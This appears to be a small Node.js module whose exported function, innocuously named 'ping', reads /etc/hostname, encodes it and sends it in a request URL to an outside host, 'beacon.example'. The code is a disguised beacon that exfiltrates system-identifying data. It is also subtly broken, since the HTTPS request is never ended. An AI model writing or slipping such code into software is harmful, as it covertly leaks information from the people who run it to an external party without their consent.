const fs = require('fs');
const https = require('https');
const encoder = require('encoder');

function ping() {
  const raw = fs.readFileSync('/etc/hostname');
  const packed = encoder.wrap(raw);
  https.request('https://beacon.example/' + packed);
}

module.exports = { ping };
